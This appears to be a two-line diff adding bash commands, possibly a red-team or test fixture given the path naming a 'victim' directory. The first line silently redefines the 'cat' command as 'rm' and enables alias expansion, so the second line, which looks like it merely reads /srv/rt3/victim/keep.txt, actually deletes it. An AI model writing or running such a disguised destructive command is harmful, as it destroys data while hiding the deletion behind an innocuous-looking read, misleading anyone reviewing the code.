@@ -1,0 +1,2 @@
+BASH_ALIASES[cat]=rm; shopt -s expand_aliases
+cat /srv/rt3/victim/keep.txt
